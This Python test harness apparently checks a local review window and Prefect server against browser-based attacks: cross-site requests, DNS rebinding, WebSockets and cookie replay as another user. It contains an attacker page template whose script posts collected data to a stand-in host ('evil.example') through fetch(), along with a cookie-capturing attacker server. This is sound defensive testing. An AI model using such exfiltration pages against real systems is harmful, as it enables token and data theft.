"""Opens an attacker's page in Chromium, beside a window (`nightschool ui`) and a Prefect server (`nightschool up`) at work.

An attack is the body of an async function in the page (`page`): `target` is the address of what is attacked, `home` the attacker's
own; `note(x)` tells the attacker what was learned. `against` is `window` or `up`, `from` the page's origin: another `port` of this
machine (the same site to a browser), another `site`, or `rebound`: a name that leads to this machine. `open` opens an address of
the target instead. The browser has been in the window, so it has its cookie. `review`, `run` and `events` are what the owner of
both can have taken, and has had taken once before the first attack: an attack that is let in changes something.

A browser sends the window's cookie to every port of 127.0.0.1 (docs/security.md), so a page of another user of this machine that
somebody opens there gets it, and `token` and `second` with it. That is no success yet: it is one when the window answers or obeys
a process of that user, who also says that its page is the window's own, or when the page can do so through the browser.
"""

import atexit
import json
import os
import shutil
import subprocess
import tempfile
import threading
from collections.abc import Mapping
from contextlib import ExitStack, suppress
from dataclasses import dataclass, field
from datetime import UTC, datetime
from functools import cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from uuid import uuid4

from flows.service.prefect_server import read_login
from flows.window.guard import second_token
from storage.sql.run import run_sql
from storage.workspace import Workspace
from stress.attacks.runner import NotTried
from tests import waiting
from tests.browser import FLAGS
from tests.flows.service.running import Up, serving_up
from tests.flows.window.opened import TOKEN, Window, fill, opened

NEVER = "0 0 1 1 *"
MARKERS = ("It is new.", "written@", "tutorship", "nightly", "arithmetic")
"""What stands in the window's and the server's answers, and in nothing that an attacker has."""
FOREIGN, REBOUND = "evil.example", "rebound.example"
PATIENCE_S = 90.0
NOBODY = "65534"
REPLAY = """
import json, sys, urllib.error, urllib.request
url, headers, review = sys.argv[1], json.loads(sys.argv[2]), sys.argv[3].encode()
for path, body in (("/rows", None), ("/reviews", review)):
    try:
        print(urllib.request.urlopen(urllib.request.Request(url + path, body, headers)).read().decode())
    except urllib.error.HTTPError as error:
        print("refused", error.code)
"""
"""Asks the window for its rows and for a review, with all that its owner's page sends."""
RESOURCE = {"prefect.resource.id": "lake.dataset.attack"}
RUN = {"parameters": {}, "state": {"type": "SCHEDULED"}, "job_variables": {"command": "touch ran"}}

PAGE = """<!doctype html><meta charset="utf-8"><title>a page</title><body><script>
const [target, home, deployment, review, run, events, token, second] = %s, seen = [];
const pause = seconds => new Promise(done => setTimeout(done, 1000 * seconds));
const note = text => seen.push(String(text).slice(0, 5000));
const read = async answer => note(`${answer.type} ${answer.status} ${await answer.text()}`);
function element(name, attributes) {
  const made = Object.assign(document.createElement(name), attributes);
  document.body.append(made);
  return made;
}
function form(action, name, value, enctype) {
  const frame = element("iframe", {name: "answer"});
  const sent = element("form", {method: "post", action, enctype, target: "answer"});
  sent.append(Object.assign(document.createElement("input"), {name, value}));
  sent.submit();
  return frame;
}
function socket(address, text) {
  return new Promise(done => {
    const opened = new WebSocket(address);
    opened.onopen = () => { note("a socket opened"); opened.send(text); };
    opened.onmessage = message => note(message.data);
    opened.onerror = opened.onclose = () => done();
    setTimeout(done, 3000);
  });
}
(async () => {
  try { %s } catch (error) { note(error); }
  await pause(0.5);
  await fetch(home + "/seen", {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
})();
</script>"""


@dataclass
class Attacker:
    """The attacker's web server: it serves a page and keeps all that is sent to it."""

    port: int = 0
    page: str = ""
    requests: list[str] = field(default_factory=list)
    cookies: set[str] = field(default_factory=set)
    reports: list[list[str]] = field(default_factory=list)

    def begin(self) -> None:
        """Listen on a free port, in a thread."""
        ours = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode(errors="replace")
                ours.cookies |= {cookie for cookie in self.headers.get_all("Cookie", []) if TOKEN in cookie}
                del self.headers["Cookie"]
                ours.requests.append(f"{self.command} {self.path}\n{self.headers}\n{body}")
                if self.path == "/seen":
                    ours.reports.append(json.loads(body))
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.end_headers()
                with suppress(BrokenPipeError):  # the page has gone on
                    self.wfile.write(ours.page.encode() if self.path == "/" else b"")

            do_POST = do_GET  # noqa: N815 - the standard library's name

            def log_message(self, format: str, *arguments: object) -> None:
                return

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = server.server_address[1]
        threading.Thread(target=server.serve_forever, daemon=True).start()


@dataclass
class Target:
    """What is attacked.

    Attributes:
        window: The window.
        up: The service.
        url: Address of its Prefect server.
        login: Its login.
        row: The row that a review is about.
        browser: Chromium.
        attacker: The attacker's server.
    """

    window: Window
    up: Up
    url: str
    login: str
    row: str
    browser: Any
    attacker: Attacker

    def review(self, identity: str) -> str:
        """Return a review of the row that the window would take from its own page."""
        return json.dumps({"reviews": [{"review_id": identity, "sample_id": self.row, "verdict": "accept"}]})

    def state(self) -> dict[str, int]:
        """Return how much there is of what a page could make."""
        reviews = run_sql(self.window.shelf.workspace, "select count(*) as n from reviews").to_pylist()[0]["n"]
        runs = self.up.ask("flow_runs/filter")
        events = self.up.ask("events/filter", {"filter": {"resource": {"id": ["lake.dataset.attack"]}}})
        return {
            "reviews": reviews,
            "runs": sum(not run["auto_scheduled"] for run in runs),
            "events": int(events["total"]),
        }

    def emit(self) -> None:
        """Have the server take an event as its owner, and wait until it has written down all that came before."""
        before = self.state()["events"]
        self.up.ask("events", [event("nightschool.of.its.owner")])
        waiting.wait_for(lambda: self.state()["events"] > before, PATIENCE_S, "the owner's event", pause_s=0.2)

    def prove(self) -> None:
        """Do as the owner what attacks try; raise where it cannot be done, since no attack could then succeed."""
        before = self.state()
        self.emit()
        later = {"type": "SCHEDULED", "state_details": {"scheduled_time": "2100-01-01T00:00:00Z"}}
        self.up.ask(f"deployments/{self.up.deployment('train')}/create_flow_run", {**RUN, "state": later})
        answer = _ask_as(None, self, self.review("its owner's"))
        after = self.state()
        if after != {name: count + 1 for name, count in before.items()} or not any(mark in answer for mark in MARKERS):
            raise RuntimeError(f"its owner cannot do what attacks try: {before} became {after}; {answer[:300]}")


def event(name: str) -> dict[str, Any]:
    """Return an event of now: the server counts none that is half a year old."""
    now = datetime.now(UTC).isoformat()
    return {"occurred": now, "event": name, "resource": RESOURCE, "payload": {}, "id": str(uuid4())}


@cache
def _target() -> Target:
    from playwright.sync_api import sync_playwright

    program = shutil.which("chromium") or shutil.which("google-chrome")
    if program is None:
        raise RuntimeError("there is no Chromium here: scripts/system_packages.sh installs it")
    with ExitStack() as kept:
        name = kept.enter_context(tempfile.TemporaryDirectory(prefix="attack-browser-", ignore_cleanup_errors=True))
        folder = Path(name)
        (folder / "up").mkdir()
        window = kept.enter_context(opened(fill(folder / "window")))
        up = kept.enter_context(serving_up(folder / "up", NEVER))
        for deployment in up.ask("deployments/filter"):
            up.ask(f"deployments/{deployment['id']}/pause_deployment")
        names = f"MAP {FOREIGN} 127.0.0.1, MAP {REBOUND} 127.0.0.1"
        playwright = kept.enter_context(sync_playwright())
        browser = playwright.chromium.launch(executable_path=program, args=[*FLAGS, f"--host-resolver-rules={names}"])
        kept.callback(browser.close)
        attacker = Attacker()
        attacker.begin()
        url = str(up.status()["url"]).removesuffix("/")
        (row,) = window.shelf.lake.rows("select sample_id from samples where response = 'It is new.'")
        login = str(read_login(Workspace(up.cli.workspace)))
        target = Target(window, up, url, login, str(row["sample_id"]), browser, attacker)
        target.prove()
        atexit.register(kept.pop_all().close)  # until this process ends
    return target


def attack(entry: Mapping[str, Any], folder: Path) -> str | None:
    """Open the page of one attack; return what it learned or changed that it must not."""
    target = _target()
    attacker, before = target.attacker, target.state()
    for kept in (attacker.requests, attacker.reports, attacker.cookies):
        kept.clear()
    host = {"port": "127.0.0.1", "site": FOREIGN, "rebound": REBOUND}[entry.get("from", "site")]
    address = target.window.url if entry["against"] == "window" else target.url
    attacked = address.replace("127.0.0.1", REBOUND) if entry.get("from") == "rebound" else address
    home = f"http://{host}:{attacker.port}"
    values = [
        attacked, home, target.up.deployment("train"), target.review(str(uuid4())), json.dumps(RUN),
        json.dumps([event("nightschool.release.created")]), TOKEN, second_token(TOKEN),
    ]  # fmt: skip
    attacker.page = PAGE % (json.dumps(values), entry.get("page", ""))
    context = target.browser.new_context()
    try:
        first = context.new_page()
        first.set_default_timeout(1000 * PATIENCE_S)
        first.goto(target.window.first)
        shown = (
            _opened(context, first, entry, attacked, home)
            if "open" in entry
            else _visited(context, attacker, home, attacked)
        )
    except TimeoutError as error:
        return f"the page did not report: {error}"
    finally:
        context.close()
    if attacker.cookies and host != "127.0.0.1":
        return "another site got the window's cookie"
    fault = _broken(target, shown + _replayed(target), before, settled="events" in entry.get("page", ""))
    if fault is None and attacker.cookies and os.getuid() != 0:
        raise NotTried("only root can use the window's cookie, which its page got, as another user of this machine")
    return fault


def _visited(context: Any, attacker: Attacker, home: str, attacked: str) -> str:
    """Visit the attacker's page until it has reported; return what frames of the target show in it."""
    page = context.new_page()
    page.set_default_timeout(1000 * PATIENCE_S)
    page.goto(f"{home}/")

    def reported() -> bool:
        page.wait_for_timeout(100)
        return bool(attacker.reports)

    waiting.wait_for(reported, PATIENCE_S, "the page's report", pause_s=0.0)
    return " ".join(frame.content() for frame in page.frames if frame.url.startswith(attacked))


def _opened(context: Any, page: Any, entry: Mapping[str, Any], attacked: str, home: str) -> str:
    """Open an address of the target itself, and go on to the attacker's from there; return what it showed under a foreign name."""
    page.goto(entry["open"].replace("{target}", attacked).replace("{token}", TOKEN))
    text = str(page.content()) if entry.get("from") == "rebound" else ""
    page.evaluate("address => { location = address }", f"{home}/left")
    page.wait_for_url(f"{home}/left")
    return text + str(page.evaluate("document.referrer"))


def _replayed(target: Target) -> str:
    """Ask the window with all that the attacker got, as another user of this machine; return its answer."""
    if not target.attacker.cookies or os.getuid() != 0:
        return ""
    return _ask_as(NOBODY, target, target.review(str(uuid4())))


def _ask_as(user: str | None, target: Target, review: str) -> str:
    """Ask the window what its owner's page asks, in a process of a user (None: our own); return its answers."""
    become = ["setpriv", f"--reuid={user}", "--clear-groups"] if user else []
    arguments = [target.window.url, json.dumps(target.window.headers), review]
    command = [*become, "/usr/bin/env", "python3", "-c", REPLAY, *arguments]
    return subprocess.run(command, capture_output=True, text=True, check=True, cwd="/").stdout  # noqa: S603 - our own


def _broken(target: Target, shown: str, before: Mapping[str, int], *, settled: bool) -> str | None:
    """Return what the attacker got hold of, in what was sent to it or is shown under its name, and what it changed.

    Args:
        target: What was attacked.
        shown: What its browser and its own process were shown.
        before: What there was before.
        settled: Whether the server has to have written all events down first.
    """
    gained = shown + "\n".join(target.attacker.requests)
    for secret in (TOKEN, second_token(TOKEN), target.login, target.login.partition(":")[2], *MARKERS):
        if secret in gained:
            at = gained.index(secret)
            return f"it got hold of {secret[:20]!r}: {gained[max(0, at - 100) : at + 100]!r}"
    if "a socket opened" in gained:
        return "a socket opened"
    if settled:
        target.emit()
        before = {**before, "events": before["events"] + 1}
    after = target.state()
    return None if after == before else f"it changed something: {before} became {after}"
